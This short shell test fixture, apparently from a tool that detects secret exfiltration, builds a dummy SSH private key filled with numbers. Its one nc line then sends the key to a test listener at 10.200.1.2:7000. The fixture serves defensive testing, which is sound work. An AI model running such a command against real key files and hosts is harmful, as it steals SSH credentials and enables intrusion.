# A shell reads a private key of SSH, and nc sends it, both started by one process.
CALLS=yes
peers() { sink 7000; }
scene() {
  mkdir -p .ssh
  seq 100 > .ssh/id_ed25519
  nc -N 10.200.1.2 7000 < "$PWD/.ssh/id_ed25519"
}
